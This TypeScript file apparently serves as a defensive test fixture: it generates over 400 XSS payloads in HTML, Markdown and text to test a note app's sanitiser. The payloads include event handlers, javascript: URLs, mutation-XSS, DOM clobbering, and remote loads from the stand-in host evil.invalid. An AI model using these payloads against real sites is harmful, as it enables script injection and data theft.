/**
 * Markup that runs, loads, sends or hides something where it is read as a page: the well-known classes, times the
 * elements, attributes and disguises that each is known in. What runs calls `window.__ran(n)`; what loads asks
 * `evil.invalid`. Every payload holds one word of its own, `zq<number>`, by which it is found again.
 */
export type Hostile = {
  readonly id: number
  /** `zq12`, once as words. */
  readonly word: string
  readonly kind: 'html' | 'markdown' | 'text'
  readonly source: string
}

const RUN = '__ran(1)'
const WEB = 'https://evil.invalid/x'

const TAGS = [
  ...['a', 'abbr', 'address', 'article', 'audio', 'b', 'blockquote', 'body', 'button', 'canvas', 'center', 'details'],
  ...['dialog', 'div', 'em', 'embed', 'fieldset', 'figure', 'font', 'form', 'frameset', 'h1', 'h3', 'hr', 'iframe'],
  ...['img', 'input', 'ins', 'isindex', 'keygen', 'label', 'li', 'link', 'map', 'mark', 'marquee', 'meter', 'nav'],
  ...['object', 'ol', 'option', 'p', 'picture', 'pre', 'progress', 'q', 's', 'section', 'select', 'slot', 'source'],
  ...['span', 'style', 'summary', 'svg', 'table', 'td', 'template', 'textarea', 'th', 'time', 'title', 'tr', 'track'],
  ...['u', 'ul', 'var', 'video', 'wbr', 'xmp', 'custom-element', 'math', 'noscript'],
]
const EVENTS = [
  ...['onload', 'onerror', 'onclick', 'onmouseover', 'onmouseenter', 'onpointerenter', 'onfocus', 'onfocusin'],
  ...['onblur', 'oninput', 'onchange', 'onsubmit', 'onreset', 'ontoggle', 'onbeforetoggle', 'onstart', 'onfinish'],
  ...['onbounce', 'onscroll', 'onscrollend', 'onwheel', 'onkeydown', 'onpaste', 'oncopy', 'oncut', 'ondrag'],
  ...['ondrop', 'onanimationstart', 'onanimationend', 'ontransitionend', 'onbegin', 'onend', 'onrepeat'],
  ...['onpageshow', 'onhashchange', 'onmessage', 'onpopstate', 'onresize', 'onunload', 'oncanplay', 'onplay'],
  ...['onloadstart', 'onselectstart', 'oncontentvisibilityautostatechange', 'onsecuritypolicyviolation'],
]
const HREFS = [
  'javascript:__ran(1)',
  'JaVaScRiPt:__ran(1)',
  '&#106;avascript:__ran(1)',
  '&#x6A&#x61&#x76&#x61script:__ran(1)',
  'java&Tab;script:__ran(1)',
  'java&NewLine;script:__ran(1)',
  'javascript&colon;__ran(1)',
  ' &#1; javascript:__ran(1)',
  'javascript:/*--></title></style>*/__ran(1)',
  'data:text/html,&lt;script>__ran(1)&lt;/script>',
  'data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,&lt;svg onload=__ran(1)>',
  'vbscript:__ran(1)',
  'file:///etc/passwd',
  'blob:https://evil.invalid/0',
  '//evil.invalid/x',
  '\\\\evil.invalid\\x',
  'http:/\\evil.invalid/x',
  'https://good.invalid@evil.invalid/',
  'throughline://delete?note=all',
]
const SOURCES = ['src', 'srcset', 'href', 'xlink:href', 'poster', 'data', 'background', 'action', 'formaction', 'cite']
const STYLES = [
  'background:url(https://evil.invalid/x)',
  'background-image:image-set("https://evil.invalid/x" 1x)',
  'list-style-image:url(https://evil.invalid/x)',
  'cursor:url(https://evil.invalid/x),auto',
  'content:url(https://evil.invalid/x)',
  'border-image:url(https://evil.invalid/x) 1',
  'mask:url(https://evil.invalid/x#m)',
  'filter:url(https://evil.invalid/x#f)',
  'behavior:url(https://evil.invalid/x)',
  '-moz-binding:url(https://evil.invalid/x#b)',
  'width:expression(__ran(1))',
  'position:fixed;inset:0;z-index:99999;background:red',
  'animation-name:x" onanimationstart="__ran(1)',
]

const html = (w: string): string[] => [
  ...TAGS.map((tag) => `<${tag} onload=${RUN} onerror=${RUN} onfocus=${RUN} tabindex=1 autofocus src=x>${w}</${tag}>`),
  ...EVENTS.map((event, at) => `<${at % 2 ? 'svg' : 'div'} ${event}="${RUN}">${w}</${at % 2 ? 'svg' : 'div'}>`),
  ...HREFS.map((href) => `<a href="${href}">${w}</a>`),
  ...HREFS.map((href) => `<svg><a xlink:href="${href}"><text>${w}</text></a></svg>`),
  ...HREFS.map((href) => `<iframe src="${href}"></iframe>${w}`),
  ...HREFS.map((href) => `<map><area href="${href}" ping="${WEB}"></map><img src="${href}">${w}`),
  ...HREFS.map((href) => `<form action="${href}"><button formaction="${href}">${w}</button></form>`),
  ...SOURCES.flatMap((name) => ['img', 'video', 'object'].map((tag) => `<${tag} ${name}="${WEB}">${w}</${tag}>`)),
  ...STYLES.map((style) => `<p style='${style}'>${w}</p>`),
  ...[
    `<script>${RUN}</script>${w}`,
    `<script src="${WEB}.js"></script>${w}`,
    `<script type="module">import "${WEB}.js"</script>${w}`,
    `<ScRiPt>${RUN}</sCrIpT>${w}`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>${w}`,
    `<script/x>${RUN}</script>${w}`,
    `<svg><script>${RUN}</script></svg>${w}`,
    `<svg><script href="${WEB}.js"/></svg>${w}`,
    `<svg><use href="${WEB}.svg#x"/></svg>${w}`,
    `<svg><use href="data:image/svg+xml,&lt;svg id='x' onload='${RUN}'/>#x"/></svg>${w}`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>${w}</svg>`,
    `<svg><set attributeName=href to=javascript:${RUN}><a>${w}</a></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>${w}`,
    `<svg><image href="${WEB}.png"/><feImage href="${WEB}.png"/></svg>${w}`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">${w}</maction></math>`,
    `<math><mi href="javascript:${RUN}">${w}</mi></math>`,
    `<iframe src="javascript:parent.${RUN}"></iframe>${w}`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>${w}`,
    `<iframe src="${WEB}"></iframe>${w}`,
    `<object data="javascript:${RUN}"></object>${w}`,
    `<embed src="data:image/svg+xml,<svg onload=${RUN}>">${w}`,
    `<meta http-equiv="refresh" content="0;url=${WEB}">${w}`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">${w}`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">${w}`,
    `<base href="${WEB}/">${w}`,
    `<base target="_blank"><a href="x">${w}</a>`,
    `<link rel="stylesheet" href="${WEB}.css">${w}`,
    `<link rel="prefetch" href="${WEB}"><link rel="dns-prefetch" href="//evil.invalid">${w}`,
    `<link rel="preload" as="script" href="${WEB}.js">${w}`,
    `<link rel="import" href="${WEB}">${w}`,
    `<style>@import url(${WEB}.css);</style>${w}`,
    `<style>body{background:url(${WEB})}*{display:none}</style>${w}`,
    `<style>@font-face{font-family:x;src:url(${WEB}.woff)}p{font-family:x}</style><p>${w}</p>`,
    `<img srcset="${WEB} 1x, ${WEB}2 2x">${w}`,
    `<picture><source srcset="${WEB}"><img src=x></picture>${w}`,
    `<video><source onerror=${RUN} src="${WEB}"></video>${w}`,
    `<audio autoplay src="${WEB}" onerror=${RUN}></audio>${w}`,
    `<input type=image src="${WEB}" onerror=${RUN}>${w}`,
    `<table background="${WEB}"><tr><td background="${WEB}">${w}</td><td>b</td></tr></table>`,
    `<template><script>${RUN}</script></template>${w}`,
    `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template>${w}</div>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">${w}</noscript>${w}`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">${w}`,
    `<svg></p><style><a title="</style><img src=1 onerror=${RUN}>">${w}`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>${w}`,
    `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>${w}`,
    `<select><iframe><p title="</iframe><img src onerror=${RUN}>"></select>${w}`,
    `<textarea></textarea><img src=x onerror=${RUN}>${w}`,
    `<!--><img src=x onerror=${RUN}>-->${w}`,
    `<!--[if IE]><script>${RUN}</script><![endif]-->${w}`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>${w}`,
    `<?xml-stylesheet href="${WEB}.xsl"?>${w}`,
    `<xss style="animation-name:x" onanimationstart=${RUN}>${w}</xss>`,
    `<img src=x:x onerror\u000b=${RUN}>${w}`,
    `<img/src=x/onerror=${RUN}>${w}`,
    `<img src=x onerror=&#95;_ran(1)>${w}`,
    `<img src="x\`\`onerror=${RUN}">${w}`,
    `<a href="x" ping="${WEB}">${w}</a>`,
    `<a href="https://example.org" target="_blank" onclick="${RUN}">${w}</a>`,
    `<a id="throughline"></a><form name="getElementById"><input name="parentNode">${w}</form>`,
    `<img name="body"><form id="document"><input id="cookie"></form>${w}`,
    `<portal src="${WEB}"></portal><fencedframe src="${WEB}"></fencedframe>${w}`,
    `<p is="x-evil" contenteditable onpaste=${RUN}>${w}</p>`,
    `<div data-lexical-editor="true" data-lexical-text="true" onfocus=${RUN}>${w}</div>`,
    `<dialog open onclose=${RUN}>${w}</dialog>`,
    `<button popovertarget=x>y</button><div popover id=x onbeforetoggle=${RUN}>${w}</div>`,
  ],
]

const markdown = (w: string): string[] => [
  ...HREFS.map((href) => `[${w}](${href.replaceAll(' ', '%20')})`),
  ...HREFS.map((href) => `[${w}](<${href.replaceAll('>', '%3E').replaceAll('<', '%3C')}> "t")`),
  ...['javascript:__ran(1)', 'data:text/html,x', 'file:///etc/passwd', 'vbscript:x'].map((url) => `<${url}> ${w}`),
  ...[
    `![${w}](javascript:${RUN})`,
    `![${w}](data:image/svg+xml,%3Csvg%20onload=${RUN}%3E)`,
    `![${w}](${WEB}.png "onerror=${RUN}")`,
    `![${w}][r]\n\n[r]: ${WEB}.png`,
    `[${w}][j]\n\n[j]: javascript:${RUN}`,
    `[${w}](x "\\" onmouseover=${RUN} y=\\"")`,
    `[a](javascript:${RUN} "${w}")`,
    `[![${w}](x)](javascript:${RUN})`,
    `[[${w}" onmouseover="${RUN}]]`,
    `[[javascript:${RUN}|${w}]]`,
    `![[../../../etc/passwd]] ${w}`,
    `![[${WEB}.png]] ${w}`,
    `$\\href{javascript:${RUN}}{${w}}$`,
    `$\\url{javascript:${RUN}} ${w}$`,
    `$\\includegraphics{${WEB}.png} ${w}$`,
    `$\\htmlData{x=y}{${w}}$ $\\htmlStyle{background:url(${WEB})}{x}$`,
    `$\\def\\a{\\a\\a}\\a$ ${w}`,
    `$$\n\\href{javascript:${RUN}}{${w}}\n$$`,
    `\`\`\`mermaid\ngraph TD\n  A[${w}]\n  click A "javascript:${RUN}"\n\`\`\``,
    `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${RUN}>${w}"]\n\`\`\``,
    `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(${WEB})}"}}%%\ngraph TD\n  A[${w}]\n\`\`\``,
    `\`\`\`js" onload="${RUN}\n${w}\n\`\`\``,
    `\`\`\`html\n<script>${RUN}</script>${w}\n\`\`\``,
    `> [!note" onload="${RUN}] ${w}`,
    `> [!x";background:url(${WEB})] ${w}`,
    `[^" onload=]: ${w} <img src=x onerror=${RUN}>`,
    `| a | <img src=x onerror=${RUN}> |\n| --- | --- |\n| ${w} | [x](javascript:${RUN}) |`,
    `- [ ] <input onfocus=${RUN} autofocus> ${w}`,
    `# <svg onload=${RUN}> ${w}`,
    `%%<img src=x onerror=${RUN}>%% ${w}`,
    `\`<img src=x onerror=${RUN}>\` ${w}`,
    `rests_on:: [[<img src=x onerror=${RUN}>]] ${w}`,
    `#tag"onload=${RUN} ${w}`,
    `<details ontoggle=${RUN} open>\n\n${w}\n\n</details>`,
    `<div>\n\n[${w}](javascript:${RUN})\n\n</div>`,
  ],
]

const text = (w: string): string[] => [
  `"><img src=x onerror=${RUN}>${w}`,
  `'-${RUN}-'${w}`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}${w}`,
  `\u202e<script>${RUN}</script>\u202c${w}`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e${w}`,
  `<\u200bscript>${RUN}</script>${w}`,
  `</textarea></title></style></script><svg/onload=${RUN}>${w}`,
  `javascript:${RUN}//${w}`,
]

const sources: readonly (readonly ['html' | 'markdown' | 'text', (word: string) => string[]])[] = [
  ['html', html],
  ['markdown', markdown],
  ['text', text],
]

/** More than 400. */
export const HOSTILE_MARKUP: readonly Hostile[] = sources
  .flatMap(([kind, make]) => make('\u0000').map((_, at) => [kind, make, at] as const))
  .map(([kind, make, at], id) => ({ id, word: `zq${id}z`, kind, source: make(`zq${id}z`)[at] ?? '' }))
